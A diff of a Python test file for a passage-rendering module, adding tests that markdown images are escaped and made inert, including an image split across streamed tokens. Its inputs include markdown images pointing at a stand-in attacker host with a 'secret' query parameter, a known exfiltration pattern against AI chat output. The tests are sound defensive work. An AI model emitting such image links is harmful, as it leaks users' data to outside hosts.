@@ -53,9 +53,7 @@ def test_highlight_without_useful_words_only_escapes(page: ModuleType) -> None:
 def test_passage_html_keeps_lines_and_markdown_literal(page: ModuleType) -> None:
     html = page.passage_html("# Title\n*not bold* kelvin\n", "kelvin")
 
-    assert html == (
-        '<div class="passage"># Title<br>*not bold* <mark><b>kelvin</b></mark></div>'
-    )
+    assert html == ('<div class="passage"># Title<br>*not bold* <mark><b>kelvin</b></mark></div>')
 
 
 def test_source_label_names_file_and_page(page: ModuleType) -> None:
@@ -94,3 +92,19 @@ def test_count(page: ModuleType) -> None:
         "0 chunks",
         "3 files",
     ]
+
+
+def test_inert_images_keeps_links_but_not_images(page: ModuleType) -> None:
+    text = "See [the manual](https://example.org) ![x](https://evil.example/?q=secret)!"
+
+    assert page.inert_images(text) == (
+        "See [the manual](https://example.org) \\![x](https://evil.example/?q=secret)!"
+    )
+
+
+def test_inert_image_stream_catches_a_split_image(page: ModuleType) -> None:
+    tokens = ["Wow", "!", "[x](https://evil.example/a.png)", " Done", "!"]
+
+    streamed = list(page.inert_image_stream(iter(tokens)))
+
+    assert "".join(streamed) == "Wow\\![x](https://evil.example/a.png) Done!"
